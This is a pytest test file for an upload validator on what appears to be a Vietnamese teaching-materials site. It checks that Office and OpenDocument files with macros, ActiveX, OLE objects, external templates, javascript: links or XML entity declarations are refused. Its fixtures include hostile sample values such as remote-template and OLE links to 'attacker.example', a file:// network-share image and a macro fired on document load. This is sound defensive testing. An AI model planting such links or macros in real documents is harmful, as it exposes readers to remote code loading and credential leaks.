"""Office documents are judged by their parts, as Word and LibreOffice read them."""

import io

import pytest
from django.utils import translation

from materials.validation import validate_file
from tests.materials.files import (
    ODF_TEXT,
    docx_bytes,
    odt_bytes,
    pptx_bytes,
    xlsx_bytes,
    zip_bytes,
)
from tests.materials.uploads import refused, upload

pytestmark = pytest.mark.django_db

DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
ACTIVEX = "application/vnd.ms-office.activeX+xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BASIC_MODULE = (
    b'<script:module xmlns:script="http://openoffice.org/2000/script" '
    b'script:name="Module1" script:language="StarBasic">Sub Main\nEnd Sub'
    b"</script:module>"
)
MACRO_EVENT = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.'
    'Main?language=Basic&amp;location=document"/></office:event-listeners>'
)


def _renamed_docm() -> bytes:
    """A macro-enabled document renamed .docx, its VBA project under another name."""
    return docx_bytes(
        ["Bai tap"],
        main_type=DOCM_MAIN,
        parts={"word/project.dat": b"\xd0\xcf\x11\xe0"},
        types={"/word/project.dat": VBA},
        relationships=[
            (
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "project.dat",
                False,
            )
        ],
    )


REFUSED_CASES = {
    "docm_renamed_docx": (_renamed_docm(), "office_macros", "macros"),
    "vba_project_present": (
        docx_bytes(["x"], parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "office_macros",
        "macros",
    ),
    "external_attached_template": (
        docx_bytes(
            ["x"],
            relationships=[
                ("attachedTemplate", "https://attacker.example/t.dotm", True)
            ],
        ),
        "office_external_content",
        "outside the file",
    ),
    "external_ole_object": (
        docx_bytes(
            ["x"],
            relationships=[("oleObject", "mhtml:https://attacker.example/!x", True)],
        ),
        "office_embedded_object",
        "embedded objects",
    ),
    "external_frame": (
        docx_bytes(
            ["x"], relationships=[("frame", "https://attacker.example/f.html", True)]
        ),
        "office_external_content",
        "outside the file",
    ),
    "embedded_ole_object": (
        pptx_bytes(
            ["x"],
            parts={"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0MZ"},
            types={"/ppt/embeddings/oleObject1.bin": OLE},
        ),
        "office_embedded_object",
        "MathType",
    ),
    "activex_control": (
        docx_bytes(
            ["x"],
            parts={"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='urn:ax'/>"},
            types={"/word/activeX/activeX1.xml": ACTIVEX},
            relationships=[("control", "activeX/activeX1.xml", False)],
        ),
        "office_activex",
        "ActiveX",
    ),
    "macros_in_an_embedded_chart_workbook": (
        docx_bytes(
            ["x"],
            parts={
                "word/embeddings/Book1.xlsx": xlsx_bytes(
                    parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
                )
            },
            types={"/word/embeddings/Book1.xlsx": XLSX},
        ),
        "office_macros",
        "macros",
    ),
    "javascript_hyperlink": (
        docx_bytes(["x"], relationships=[("hyperlink", "javascript:alert(1)", True)]),
        "office_unsafe_link",
        "not a web address",
    ),
    "network_share_image": (
        docx_bytes(
            ["x"], relationships=[("image", "file://attacker.example/s/a.png", True)]
        ),
        "office_unsafe_link",
        "not a web address",
    ),
    "doctype_in_content_types": (
        zip_bytes(
            {
                "[Content_Types].xml": b'<!DOCTYPE t [<!ENTITY x "y">]><Types/>',
                "word/document.xml": b"<w:document xmlns:w='urn:w'/>",
            }
        ),
        "xml_entity_expansion",
        "[Content_Types].xml declares XML entities",
    ),
    "word_document_without_content_types": (
        zip_bytes({"word/document.xml": b"<w:document xmlns:w='urn:w'/>"}),
        "corrupt_office",
        "damaged",
    ),
    "odt_basic_macros": (
        odt_bytes(
            ["x"],
            parts={"Basic/Standard/Module1.xml": BASIC_MODULE},
            manifest={"Basic/Standard/Module1.xml": "text/xml"},
        ),
        "office_macros",
        "macros",
    ),
    "odt_macro_on_load": (
        odt_bytes(["x"], markup=MACRO_EVENT),
        "office_macros",
        "macros",
    ),
    "odt_macro_link": (
        odt_bytes(
            ["x"],
            markup='<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main'
            '?language=Basic&amp;location=application">x</text:a></text:p>',
        ),
        "office_unsafe_link",
        "not a web address",
    ),
    "odt_ole_object": (
        odt_bytes(
            ["x"],
            parts={"Object 1": b"\xd0\xcf\x11\xe0"},
            manifest={"Object 1": "application/vnd.sun.star.oleobject"},
        ),
        "office_embedded_object",
        "embedded objects",
    ),
    "odt_without_manifest": (
        zip_bytes({"mimetype": ODF_TEXT.encode(), "content.xml": b"<x/>"}),
        "corrupt_office",
        "damaged",
    ),
}


@pytest.mark.parametrize(
    ("data", "rule", "message"), REFUSED_CASES.values(), ids=list(REFUSED_CASES)
)
def test_active_office_content_is_refused_and_nothing_is_stored(
    settings, data, rule, message
):
    error = refused(settings, data, name="bai-giang.docx")
    assert error.code == rule
    assert message in error.messages[0]


ACCEPTED_CASES = {
    "docx": (docx_bytes(["Bai tap"]), "wordprocessingml.document"),
    "docx_with_web_link": (
        docx_bytes(
            ["x"], relationships=[("hyperlink", "https://vi.wikipedia.org/", True)]
        ),
        "wordprocessingml.document",
    ),
    "docx_with_chart_workbook": (
        docx_bytes(
            ["x"],
            parts={"word/embeddings/Book1.xlsx": xlsx_bytes()},
            types={"/word/embeddings/Book1.xlsx": XLSX},
        ),
        "wordprocessingml.document",
    ),
    "pptx": (pptx_bytes(["Slide 1"]), "presentationml.presentation"),
    "xlsx": (xlsx_bytes(), "spreadsheetml.sheet"),
    "odt": (
        odt_bytes(
            ["Bai doc"],
            markup='<text:p><text:a xlink:href="https://example.org">x</text:a>'
            '<text:a xlink:href="#Chuong2">y</text:a></text:p>',
        ),
        "opendocument.text",
    ),
}


@pytest.mark.parametrize(
    ("data", "mime"), ACCEPTED_CASES.values(), ids=list(ACCEPTED_CASES)
)
def test_clean_office_documents_are_accepted_with_their_real_type(data, mime):
    assert validate_file(io.BytesIO(data)).mime_type.endswith(mime)
    material = upload(data, name="tai-lieu")
    assert material.pk is not None


def test_a_zip_without_office_parts_is_still_a_package(settings):
    material = upload(zip_bytes({"index.html": b"<p>x</p>"}), name="h5p.zip")
    assert material.pk is not None


def test_a_vietnamese_teacher_reads_the_refusal_in_vietnamese(settings):
    with translation.override("vi"):
        error = refused(settings, _renamed_docm(), name="bai-giang.docx")
    assert error.messages[0].startswith("Tài liệu văn phòng có macro bị từ chối")
